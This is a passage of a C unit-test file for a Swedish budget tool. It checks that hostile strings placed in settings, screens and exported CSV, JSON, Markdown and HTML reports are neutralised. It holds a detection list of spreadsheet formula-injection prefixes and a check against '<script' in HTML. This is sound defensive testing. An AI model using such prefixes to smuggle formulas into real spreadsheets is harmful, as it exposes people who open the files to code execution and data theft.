		{ { "screen", "start", place->folder, "--as", sample->text, NULL } },
		{ { "init", "/nowhere/at/all", "--example", sample->text, NULL } },
		{ { "verify", sample->text, NULL } },
	}, *row;

	for (EACH(row, rows)) {
		struct error error = { 0 };
		struct command_line line;
		char *words[8] = { (char *)(uintptr_t)"budgetdialog" }, *said = NULL;
		size_t size;
		int count = 1;

		for (; row->words[count - 1]; count++)
			words[count] = (char *)(uintptr_t)row->words[count - 1];
		if (!command_parse(count, words, &line, &error)) {
			expect_sentence(sample, row->words[0], &error);
			continue;
		}
		FILE *nowhere = fopen("/dev/null", "r+"), *err = open_memstream(&said, &size);

		command_run(&line, NULL, nowhere, nowhere, err);
		fclose(nowhere);
		fclose(err);
		expect_lines(sample->kind, row->words[0], said);
		expect(count_of(said, '\n') <= 2, "%s, %s: %s", sample->kind, row->words[0], said);
		free(said);
	}
}

static void where_no_text_belongs_it_is_named_harmless(void **state)
{
	struct place place = place_new();
	struct error error = { 0 };
	off_t before;

	(void)state;
	expect(set_up(&place, harmless, harmless, harmless, &error), "%s", error.text);
	before = sizes(&place);
	for (size_t i = 0; i < sample_count; i++) {
		if (text_is_id(samples[i].text) || !*samples[i].text)
			continue;
		ids_refuse_settings(&samples[i]);
		words_refuse(&place, &samples[i]);
		for (size_t form = 0; form < sizeof acts_with_ids / sizeof *acts_with_ids; form++) {
			struct error why = { 0 };

			if (act(&place, acts_with_ids[form], samples[i].text, &why))
				expect(sizes(&place) == before, "%s i %s", samples[i].kind, acts_with_ids[form]);
			else
				expect_sentence(&samples[i], acts_with_ids[form], &why);
		}
	}
	assert_int_equal(sizes(&place), before);
	place_free(&place);
}

/* ---- the screens ---- */

/* How far its figures can be held to a place. */
enum mode {
	PROSE,      /* they stand in sentences */
	FIRST_ROW,  /* the first row with figures is where it was */
	ABOVE_RULE, /* all above the rule are where they were; below is prose */
	SAME_PLACE  /* all are */
};

/* tall: text may take more rows; on a canvas tall enough the same amounts follow one another in the same column. */
static const struct view {
	const char *screen, *unit, *as;
	enum mode mode;
	bool tall;
} views[] = {
	{ "start", NULL, "rd", FIRST_ROW, false },
	{ "start", NULL, "cn", FIRST_ROW, false },
	{ "seats", NULL, NULL, PROSE, false },
	{ "organisation", NULL, "rd", ABOVE_RULE, false },
	{ "organisation", "norr", "cn", ABOVE_RULE, false },
	{ "unit", "norr", "cn", FIRST_ROW, true },
	{ "unit", "region", "rd", FIRST_ROW, true },
	{ "unit", "fou", "rd", FIRST_ROW, true },
	{ "why", "norr", "cn", FIRST_ROW, true },
	{ "why", "region", "rd", FIRST_ROW, true },
	{ "distribution", "norr", "cn", SAME_PLACE, false },
	{ "distribution", "region", "rd", SAME_PLACE, false },
	{ "check", NULL, "eko", SAME_PLACE, false },
	{ "help", NULL, "cn", PROSE, false },
	{ "history", NULL, "rd", PROSE, false },
	{ "versions", NULL, "rd", PROSE, false },
};
#define VIEWS (sizeof views / sizeof *views)

static const struct size {
	int rows, columns;
} screen_sizes[] = { { 24, 80 }, { 60, 200 } };
#define TALL_TEXT 2000 /* columns of text that are tried on a tall canvas */
#define SIZES     (sizeof screen_sizes / sizeof *screen_sizes)

static struct session *session_of(const struct place *place, const char *user)
{
	const struct session_options options = { .path = place->folder, .as = user };
	struct error error = { 0 };
	struct session *session = session_open(&options, &error);

	expect(session, "%s", error.text);
	return session;
}

/* NULL: there is no such screen. */
static struct canvas *draw_view(struct session *session, const struct view *view, const struct size *size)
{
	struct screen *screen = screen_named(session, view->screen, view->unit ? org_find(session->book->org, view->unit) : 0);
	struct canvas *canvas = screen ? canvas_new(size->rows, size->columns, &glyphs_utf8) : NULL;

	if (screen) {
		screen_draw(screen, canvas, "");
		screen_free(screen);
	}
	return canvas;
}

static void expect_canvas(const char *kind, const struct view *view, const struct canvas *canvas)
{
	struct buffer shown = { 0 };
	int rows = 0;

	canvas_plain(canvas, &shown);
	expect_lines(kind, view->screen, shown.bytes);
	for (const char *at = shown.bytes; *at; at++)
		rows += *at == '\n';
	expect(rows == canvas->rows, "%s, %s: %d rader", kind, view->screen, rows);
	for (int row = 0; row < canvas->rows; row++)
		for (int column = 0, width; column < canvas->columns; column += width) {
			const char *text = canvas_at(canvas, row, column)->text;

			width = *text ? text_width(text) : 0;
			expect(width == 1 || (width == 2 && column + 1 < canvas->columns && !*canvas_at(canvas, row, column + 1)->text),
			       "%s, %s: ruta %d,%d «%s» har bredden %d", kind, view->screen, row, column, text, width);
		}
	buffer_free(&shown);
}

/* ---- figures: on a table, in the column and on the row where they are with harmless text ---- */

#define FIGURES 512

struct figure_at {
	int row, end;
	char text[24];
};
struct figures {
	struct figure_at at[FIGURES];
	size_t count;
};

static bool is_digit(const char *text)
{
	return *text >= '0' && *text <= '9' && !text[1];
}

static bool is_space(const char *text)
{
	return !strcmp(text, " ") || !strcmp(text, "\xc2\xa0");
}

/* The amounts of the folder, so that figures in the strings are no amounts. */
static bool is_ours(const char *text)
{
	static const char *const ours[] = { "9876,5", "4321,1", "5000,3", "77,7",   "81,3",   "13,7",  "1212,1",
					    "3100,4", "20,5",   "44,4",   "3150,6", "4388,7", "5014,0" };

	for (size_t i = 0; i < sizeof ours / sizeof *ours; i++)
		if (!strcmp(text, ours[i]))
			return true;
	return false;
}

static bool goes_on(const struct canvas *canvas, int row, int column)
{
	const char *text = canvas_at(canvas, row, column)->text;

	return is_digit(text) || !strcmp(text, ",") ||
	       (is_space(text) && column + 1 < canvas->columns && is_digit(canvas_at(canvas, row, column + 1)->text));
}

/* Digits, single spaces between them and a comma, as far as they go. Returns the column after. */
static int take_figure(const struct canvas *canvas, int row, int column, struct figure_at *out)
{
	size_t size = 0;

	for (; column < canvas->columns && goes_on(canvas, row, column); column++)
		if (!is_space(canvas_at(canvas, row, column)->text) && size < sizeof out->text - 1)
			out->text[size++] = *canvas_at(canvas, row, column)->text;
	out->text[size] = '\0';
	out->row = row;
	out->end = column;
	return column;
}

static void find_figures(const struct canvas *canvas, struct figures *out)
{
	out->count = 0;
	for (int row = 0; row < canvas->rows; row++)
		for (int column = 0; column < canvas->columns && out->count < FIGURES;) {
			if (!is_digit(canvas_at(canvas, row, column)->text)) {
				column++;
				continue;
			}
			column = take_figure(canvas, row, column, &out->at[out->count]);
			out->count += is_ours(out->at[out->count].text);
		}
}

static int rule_of(const struct canvas *canvas)
{
	int row = 0;

	while (row < canvas->rows && strcmp(canvas_at(canvas, row, canvas->columns / 2)->text, "\xe2\x94\x80"))
		row++;
	return row;
}

static void placed_figures(const struct canvas *canvas, enum mode mode, struct figures *out)
{
	int end = mode == ABOVE_RULE ? rule_of(canvas) : canvas->rows;
	size_t count = 0;

	find_figures(canvas, out);
	if (mode == FIRST_ROW && out->count)
		end = out->at[0].row + 1;
	while (mode != PROSE && count < out->count && out->at[count].row < end)
		count++;
	out->count = count;
}

/* In a sentence there is more behind it. */
static bool is_in_a_table(const struct canvas *canvas, const struct figure_at *figure)
{
	for (int column = figure->end; column < figure->end + 2 && column < canvas->columns; column++)
		if (!is_space(canvas_at(canvas, figure->row, column)->text))
			return false;
	return true;
}

/* Those in the column where most of them end. */
static void figures_of_column(const struct canvas *canvas, struct figures *out)
{
	int ends[256] = { 0 }, most = 0;
	size_t kept = 0;

	find_figures(canvas, out);
	for (size_t i = 0; i < out->count; i++)
		ends[out->at[i].end & 255]++;
	for (int end = 0; end < 256; end++)
		most = ends[end] > ends[most] ? end : most;
	for (size_t i = 0; i < out->count; i++)
		if (out->at[i].end == most && is_in_a_table(canvas, &out->at[i]))
			out->at[kept++] = out->at[i];
	out->count = kept;
}

/* Above the rule of the tree stands a table whose first column is as wide as its widest name: all the others move with it, and by as much. */
static int moved(const struct view *view, const struct figures *wanted, const struct figures *found)
{
	return view->mode == ABOVE_RULE && wanted->count && found->count ? found->at[0].end - wanted->at[0].end : 0;
}

static void expect_same_figures(const char *kind, const struct view *view, const struct figures *wanted, const struct figures *found, bool rows)
{
	int by = moved(view, wanted, found);

	expect(found->count == wanted->count, "%s, %s: %zu belopp, ska vara %zu", kind, view->screen, found->count, wanted->count);
	for (size_t i = 0; i < wanted->count; i++) {
		const struct figure_at *a = &wanted->at[i], *b = &found->at[i];

		expect(!strcmp(a->text, b->text) && a->end + by == b->end && (!rows || a->row == b->row), "%s, %s: %s på %d,%d; ska vara %s på %d,%d",
		       kind, view->screen, b->text, b->row, b->end, a->text, a->row, a->end);
	}
}

/* ---- every screen ---- */

static struct figures normal[VIEWS][SIZES], normal_tall[VIEWS];
static size_t screens_drawn, figures_held, sheets_written;

/* With the harmless sample the normal places are noted, with all others compared. */
static void one_size(const struct sample *sample, struct session *session, size_t view, size_t size)
{
	struct canvas *canvas = draw_view(session, &views[view], &screen_sizes[size]);
	struct figures found;

	if (!canvas)
		return;
	screens_drawn++;
	expect_canvas(sample->kind, &views[view], canvas);
	placed_figures(canvas, views[view].mode, sample == &plain ? &normal[view][size] : &found);
	if (sample != &plain) {
		expect_same_figures(sample->kind, &views[view], &normal[view][size], &found, true);
		figures_held += found.count;
	}
	canvas_free(canvas);
}

/* No screen shows the text more than thirty times, and never in fewer columns than this. */
static struct size tall_size(const struct sample *sample)
{
	int rows = 0;

	for (const char *at = sample->text; at; rows++)
		text_wrap(at, 36, &at);
	return (struct size){ 60 + 30 * rows, 80 };
}

static void one_tall(const struct sample *sample, struct session *session, size_t view)
{
	const struct size size = tall_size(sample);
	struct canvas *canvas = draw_view(session, &views[view], &size);
	struct figures found;

	figures_of_column(canvas, sample == &plain ? &normal_tall[view] : &found);
	if (sample != &plain) {
		expect_same_figures(sample->kind, &views[view], &normal_tall[view], &found, false);
		figures_held += found.count;
	}
	canvas_free(canvas);
}

static void one_view(const struct sample *sample, struct session *session, size_t view)
{
	for (size_t size = 0; size < SIZES; size++)
		one_size(sample, session, view, size);
	if (views[view].tall && text_width(sample->text) <= TALL_TEXT)
		one_tall(sample, session, view);
}

/* One session for each who looks: to close one takes the kernel some milliseconds (inotify). */
static void all_screens(const struct place *place, const struct sample *sample)
{
	static const char *const users[] = { "rd", "cn", "eko", NULL };

	for (size_t user = 0; user < sizeof users / sizeof *users; user++) {
		struct session *session = session_of(place, users[user]);

		for (size_t view = 0; view < VIEWS; view++)
			if (views[view].as == users[user] || (views[view].as && users[user] && !strcmp(views[view].as, users[user])))
				one_view(sample, session, view);
		session_close(session);
	}
}

/* ---- every command ---- */

static bool draw_text(struct session *session, const char *name, int unit, int rows, int columns, struct buffer *out, struct error *error)
{
	const struct view view = { .screen = name, .unit = unit == ORG_NONE ? NULL : session->book->org->units[unit].id };
	struct canvas *canvas = draw_view(session, &view, &(struct size){ rows, columns });

	if (!canvas)
		return error_set(error, "usage", "%s finns inte", name);
	canvas_plain(canvas, out);
	canvas_free(canvas);
	return true;
}

enum form {
	TOLD,    /* as many lines, whatever the text */
	WRAPPED, /* amounts in a column of their own, text beside it over as many lines as it takes */
	TABLE,   /* the amounts after the names, as they are */
	CSV,
	JSON,
	MARKDOWN,
	HTML,
	DRAWN /* tried as a screen already */
};

static const struct tried {
	const char *words[8];
	enum form form;
	int status;
} tried[] = {
	{ { "report", "ram" }, TABLE, 0 },
	{ { "report", "ram", "--format", "csv" }, CSV, 0 },
	{ { "report", "ram", "--format", "json" }, JSON, 0 },
	{ { "report", "ram", "--format", "markdown" }, MARKDOWN, 0 },
	{ { "report", "ram", "--format", "html" }, HTML, 0 },
	{ { "check" }, TOLD, 1 },
	{ { "check", "--format", "csv" }, CSV, 1 },
	{ { "check", "--format", "json" }, JSON, 1 },
	{ { "check", "--format", "markdown" }, MARKDOWN, 1 },
	{ { "check", "--format", "html" }, HTML, 1 },
	{ { "verify" }, TOLD, 0 },
	{ { "log" }, TOLD, 0 },
	{ { "doctor" }, TOLD, 0 },
	{ { "checkpoint" }, TOLD, 0 },
	{ { "why", "norr" }, WRAPPED, 0 },
	{ { "why", "norr/2020/expansion" }, WRAPPED, 0 },
	{ { "why", "norr", "line.personal" }, WRAPPED, 0 },
	{ { "screen", "unit", "--as", "cn" }, DRAWN, 0 },
};
#define TRIED (sizeof tried / sizeof *tried)

struct said {
	char *out, *err;
};

static struct said run(const struct place *place, const struct tried *row)
{
	char *words[16], empty[] = "\n";
	struct said said = { 0 };
	struct command_line line;
	struct error error = { 0 };
	size_t size;
	int count = 0, status;
	FILE *in = fmemopen(empty, 1, "r"), *out = open_memstream(&said.out, &size), *err = open_memstream(&said.err, &size);

	words[count++] = (char *)(uintptr_t) "budgetdialog";
	for (size_t i = 0; i < 8 && row->words[i]; i++)
		words[count++] = (char *)(uintptr_t)row->words[i];
	words[count++] = (char *)(uintptr_t)place->folder;
	words[count] = NULL;
	expect(command_parse(count, words, &line, &error), "%s", error.text);
	status = command_run(&line, draw_text, in, out, err);
	fclose(in);
	fclose(out);
	fclose(err);
	expect(status == row->status, "%s %s: %d %s", row->words[0], row->words[1] ? row->words[1] : "", status, said.err);
	return said;
}

struct compare {
	const char *kind, *what;
	const struct sample *sample;
	const char *normal, *found;
};

/* ---- told and wrapped ---- */

static void compare_told(const struct compare *compare)
{
	size_t wanted = count_of(compare->normal, '\n'), found = count_of(compare->found, '\n');

	expect(wanted == found, "%s, %s: %zu rader, ska vara %zu: %s", compare->kind, compare->what, found, wanted, compare->found);
}

/* The first columns of a line, where no text may stand; false at the end. */
static bool next_amount(const char **text, int width, char out[64])
{
	*out = '\0';
	while (**text) {
		const char *at = *text, *end = at + strcspn(at, "\n");
		size_t size = 0;

		for (int column = 0, columns; column < width && at < end; column += columns) {
			size_t step = text_step(at, &columns);

			if (size + step < 63)
				memcpy(out + size, at, step), size += step;
			at += step;
		}
		out[size] = '\0';
		*text = *end ? end + 1 : end;
		if (size && strspn(out, " ") != size)
			return true;
	}
	return false;
}

/* The head is a sentence and a blank line; the first amount tells how wide the column is. */
static void compare_wrapped(const struct compare *compare)
{
	const char *a = strstr(compare->normal, "\n\n") + 2, *b = strstr(compare->found, "\n\n") + 2;
	char wanted[64], found[64], head[128];
	int width;

	snprintf(head, sizeof head, "%.*s", (int)(strstr(a + strspn(a, " "), "  ") - a), a);
	width = text_width(head);
	assert_true(width > 3 && width < 12);
	while (next_amount(&a, width, wanted)) {
		expect(next_amount(&b, width, found), "%s, %s: %s saknas", compare->kind, compare->what, wanted);
		expect(!strcmp(wanted, found), "%s, %s: «%s» ska vara «%s»", compare->kind, compare->what, found, wanted);
	}
	expect(!next_amount(&b, width, found), "%s, %s: «%s» tillkom", compare->kind, compare->what, found);
}

/* ---- a table as text: as wide as its rule, and last on each line the same amounts ---- */

/* The last word of text[0..*size); *size is then what is before it. */
static size_t last_word(const char *text, size_t *size, const char **word)
{
	size_t end = *size;

	while (end && text[end - 1] == ' ')
		end--;
	for (*size = end; *size && text[*size - 1] != ' ';)
		--*size;
	*word = text + *size;
	return end - *size;
}

static void compare_row(const struct compare *compare, const char *a, size_t wanted, const char *b, size_t found)
{
	const char *wanted_word, *found_word;

	for (;;) {
		size_t wanted_size = last_word(a, &wanted, &wanted_word), found_size = last_word(b, &found, &found_word);

		if (!wanted_size || !strncmp(wanted_word, harmless, strlen(harmless)))
			return;
		expect(wanted_size == found_size && !memcmp(wanted_word, found_word, wanted_size), "%s, %s: «%.*s» ska vara «%.*s»",
		       compare->kind, compare->what, (int)found_size, found_word, (int)wanted_size, wanted_word);
	}
}

static void compare_table(const struct compare *compare)
{
	const char *a = compare->normal, *b = compare->found;
	int width = 0;

	compare_told(compare);
	for (int row = 0; *a && (row < 4 || *a != '\n'); row++) { /* remarks may follow, after a blank line */
		size_t wanted = strcspn(a, "\n"), found = strcspn(b, "\n");
		char line[4200];

		snprintf(line, sizeof line, "%.*s", (int)found, b);
		if (row == 3)
			width = text_width(line);
		if (row > 3)
			expect(text_width(line) == width && width <= 80, "%s, %s: %d kolumner: %s", compare->kind, compare->what,
			       text_width(line), line);
		if (row > 3)
			compare_row(compare, a, wanted, b, found);
		a += wanted + 1;
		b += found + 1;
	}
}

/* ---- csv ---- */

/* The next cell, unquoted; *last: the row ends after it. */
static char *next_cell(const char **text, bool *last)
{
	struct buffer cell = { 0 };
	const char *at = *text;
	bool quoted = *at == '"';

	buffer_text(&cell, "");
	for (at += quoted; *at; at++) {
		if (quoted && *at == '"' && at[1] == '"')
			at++;
		else if (quoted && *at == '"')
			quoted = false;
		else if (!quoted && (*at == ';' || !strncmp(at, "\r\n", 2)))
			break;
		buffer_add(&cell, at, *at != '"' || at[-1] == '"' || quoted);
	}
	*last = *at != ';';
	*text = at + (*at == ';' ? 1 : *at ? 2 : 0);
	return cell.bytes;
}

static bool would_run(const char *cell)
{
	static const char *const starts[] = { "=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20" };

	while (*cell == ' ' || !strncmp(cell, "\u00a0", 2))
		cell += *cell == ' ' ? 1 : 2;
	for (size_t i = 0; i < sizeof starts / sizeof *starts; i++)
		if (!strncmp(cell, starts[i], strlen(starts[i])))
			return true;
	return false;
}

static void compare_csv(const struct compare *compare)
{
	const char *a = compare->normal, *b = compare->found;

	while (*a) {
		bool last_wanted, last_found;
		char *wanted = next_cell(&a, &last_wanted), *found = next_cell(&b, &last_found);

		expect(last_wanted == last_found, "%s, %s: raden slutar fel efter «%s»", compare->kind, compare->what, found);
		if (strstr(wanted, harmless))
			expect(!would_run(found), "%s, %s: «%s» skulle köras", compare->kind, compare->what, found);
		else
			expect(!strcmp(wanted, found), "%s, %s: «%s» ska vara «%s»", compare->kind, compare->what, found, wanted);
		free(wanted);
		free(found);
	}
	expect(!*b, "%s, %s: «%s» tillkom", compare->kind, compare->what, b);
}

/* ---- json ---- */

/* As it was written, or made harmless. */
static bool is_sample(const struct sample *sample, const char *text)
{
	struct buffer shown = { 0 };
	bool is;

	text_harmless(&shown, sample->text);
	is = !strcmp(text, sample->text) || !strcmp(text, shown.bytes);
	buffer_free(&shown);
	return is;
}

static void compare_json_values(const struct compare *compare, const json_t *wanted, const json_t *found)
{
	const char *key;
	json_t *value;
	size_t index;

	expect(json_typeof(wanted) == json_typeof(found), "%s, %s", compare->kind, compare->what);
	if (json_is_string(wanted) && !strcmp(json_string_value(wanted), harmless))
		expect(is_sample(compare->sample, json_string_value(found)), "%s, %s: «%s»", compare->kind, compare->what,
		       json_string_value(found));
	else if (!json_is_array(wanted) && !json_is_object(wanted))
		expect((json_is_string(wanted) && strstr(json_string_value(wanted), harmless)) ||
			       json_equal((json_t *)(uintptr_t)wanted, (json_t *)(uintptr_t)found),
		       "%s, %s", compare->kind, compare->what);
	expect(json_array_size(wanted) == json_array_size(found) && json_object_size(wanted) == json_object_size(found), "%s, %s", compare->kind,
	       compare->what);
	json_array_foreach(wanted, index, value) compare_json_values(compare, value, json_array_get(found, index));
	json_object_foreach((json_t *)(uintptr_t)wanted, key, value) compare_json_values(compare, value, json_object_get(found, key));
}

static void compare_json(const struct compare *compare)
{
	json_error_t why;
	json_t *wanted = json_loads(compare->normal, 0, &why), *found = json_loads(compare->found, JSON_REJECT_DUPLICATES, &why);

	expect(wanted && found, "%s, %s: %s", compare->kind, compare->what, why.text);
	compare_json_values(compare, wanted, found);
	json_decref(wanted);
	json_decref(found);
}

/* ---- markdown ---- */

/* Up to the next pipe without a backslash, or the end of the line. */
static size_t markdown_cell(const char *text)
{
	const char *at = text;

	for (; *at && *at != '\n' && *at != '|'; at++)
		if (*at == '\\' && at[1])
			at++;
	return (size_t)(at - text);
}

static void compare_markdown(const struct compare *compare)
{
	const char *a = compare->normal, *b = compare->found;

	while (*a) {
		size_t wanted = markdown_cell(a), found = markdown_cell(b);
		char cell[256];

		snprintf(cell, sizeof cell, "%.*s", (int)wanted, a);
		expect(a[wanted] == b[found], "%s, %s: cellen slutar fel: %.80s", compare->kind, compare->what, b);
		if (!strstr(cell, harmless))
			expect(wanted == found && !memcmp(a, b, wanted), "%s, %s: «%.*s» ska vara «%s»", compare->kind, compare->what,
			       (int)found, b, cell);
		else
			for (const char *at = b; at < b + found; at++)
				expect(*at != '<' || (at > b && at[-1] == '\\'), "%s, %s: märkning i %.*s", compare->kind, compare->what,
				       (int)found, b);
		a += wanted + (a[wanted] != '\0');
		b += found + (b[found] != '\0');
	}
	expect(!*b, "%s, %s: «%s» tillkom", compare->kind, compare->what, b);
}

/* ---- html: the same tags with the same in them, and other text between them only where there was text ---- */

static void compare_html(const struct compare *compare)
{
	const char *a = compare->normal, *b = compare->found;

	while (*a) {
		size_t wanted = strcspn(a + 1, *a == '<' ? ">" : "<") + 1, found = strcspn(b + 1, *b == '<' ? ">" : "<") + 1;
		char part[4096];

		snprintf(part, sizeof part, "%.*s", (int)wanted, a);
		expect((*a == '<') == (*b == '<') && ((wanted == found && !memcmp(a, b, wanted)) || (*a != '<' && strstr(part, harmless))),
		       "%s, %s: «%.*s» ska vara «%s»", compare->kind, compare->what, (int)found, b, part);
		a += wanted;
		b += found;
	}
	expect(!*b, "%s, %s: «%s» tillkom", compare->kind, compare->what, b);
}

static void (*const comparisons[])(const struct compare *) = {
	[TOLD] = compare_told, [WRAPPED] = compare_wrapped,   [TABLE] = compare_table, [CSV] = compare_csv,
	[JSON] = compare_json, [MARKDOWN] = compare_markdown, [HTML] = compare_html,   [DRAWN] = compare_told,
};

static char *normal_said[TRIED];

/* csv ends its lines with CRLF; within a cell they are text like other text. */
static void drop_returns(char *text)
{
	char *to = text;

	for (; *text; text++)
		if (strncmp(text, "\r\n", 2) != 0)
			*to++ = *text;
	*to = '\0';
}

static void all_commands(const struct place *place, const struct sample *sample)
{
	for (size_t i = 0; i < TRIED; i++) {
		struct said said = run(place, &tried[i]);
		const struct compare compare = { sample->kind, tried[i].words[0], sample, normal_said[i], said.out };

		expect_lines(sample->kind, tried[i].words[0], said.err);
		if (sample == &plain)
			normal_said[i] = memory_string(said.out);
		else
			comparisons[tried[i].form](&compare);
		drop_returns(said.out);
		(tried[i].form == JSON ? expect_characters : expect_lines)(sample->kind, tried[i].words[0], said.out);
		free(said.out);
		free(said.err);
	}
}

/* ---- what `E` writes of every screen ---- */

static bool is_a_number(const char *cell)
{
	size_t sign = *cell == '-', digits = strspn(cell + sign, "0123456789,");

	return digits > 0 && !cell[sign + digits];
}

static void expect_harmless_cells(const struct sample *sample, const char *screen, const char *csv)
{
	while (*csv) {
		bool last;
		char *cell = next_cell(&csv, &last);

		expect(is_a_number(cell) || !would_run(cell), "%s, %s: «%s» skulle köras", sample->kind, screen, cell);
		free(cell);
	}
}

static void tabs_to_spaces(char *text)
{
	for (; *text; text++)
		if (*text == '\t')
			*text = ' ';
}

static void expect_harmless_sheet(const struct sample *sample, const char *screen, const struct sheet *sheet)
{
	for (int format = 0; format < REPORT_FORMATS; format++) {
		struct buffer out = { 0 };

		sheet_write(&out, sheet, (enum report_format)format, false);
		if (format == REPORT_CSV)
			expect_harmless_cells(sample, screen, out.bytes);
		drop_returns(out.bytes);
		if (format == REPORT_TABS)
			tabs_to_spaces(out.bytes); /* those between its cells: in a cell there is none, or the rows would not fit */
		(format == REPORT_JSON ? expect_characters : expect_lines)(sample->kind, screen, out.bytes);
		expect(format != REPORT_HTML || !strstr(out.bytes, "<script"), "%s, %s", sample->kind, screen);
		buffer_free(&out);
		sheets_written++;
	}
}

static void all_sheets(const struct place *place, const struct sample *sample)
{
	struct session *session = session_of(place, "cn");

	for (size_t i = 0; i < VIEWS; i++) {
		struct screen *screen = screen_named(session, views[i].screen, views[i].unit ? org_find(session->book->org, views[i].unit) : 0);
		struct sheet sheet = { .title = sample->text, .source = sample->text };

		if (screen && screen->hooks->sheet && screen->hooks->sheet(screen, &sheet))
			expect_harmless_sheet(sample, views[i].screen, &sheet);
		sheet_free(&sheet);
		screen_free(screen);
	}
	session_close(session);
}

/* ---- all of it ---- */

static void everywhere(const struct sample *sample)
{
	struct place place = place_new();
	struct error error = { 0 };

	expect(set_up(&place, sample->text, sample->text, sample->text, &error), "%s: %s", sample->kind, error.text);
	act_all(&place, sample);
	all_screens(&place, sample);
	all_commands(&place, sample);
	all_sheets(&place, sample);
	place_free(&place);
}

static void what_has_a_place_stays_in_it(void **state)
{
	size_t tried_samples = 0;

	(void)state;
	everywhere(&plain);
	for (size_t i = 0; i < sample_count; i++)
		if (samples[i].in_settings && samples[i].in_acts) {
			everywhere(&samples[i]);
			tried_samples++;
		}
	for (size_t i = 0; i < TRIED; i++)
		free(normal_said[i]);
	print_message("# %zu strings, of which %zu may stand in files; %zu screens, %zu figures in their places\n", sample_count, tried_samples,
		      screens_drawn, figures_held);
	assert_true(sample_count >= 300 && tried_samples >= 300 && figures_held > 10000 && sheets_written > 10000);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(what_has_no_place_is_refused_without_a_trace),
		cmocka_unit_test(where_no_text_belongs_it_is_named_harmless),
		cmocka_unit_test(what_has_a_place_stays_in_it),
	};
	int failed;

	setenv("SOURCE_DATE_EPOCH", "1576486800", 1);
	if (!getenv("TMPDIR") && !access("/dev/shm", W_OK)) /* hundreds of folders, each synced */
		setenv("TMPDIR", "/dev/shm", 1);
	make_samples();
	failed = cmocka_run_group_tests_name("hostile", tests, NULL, NULL);
	free_samples();
	return failed;
}
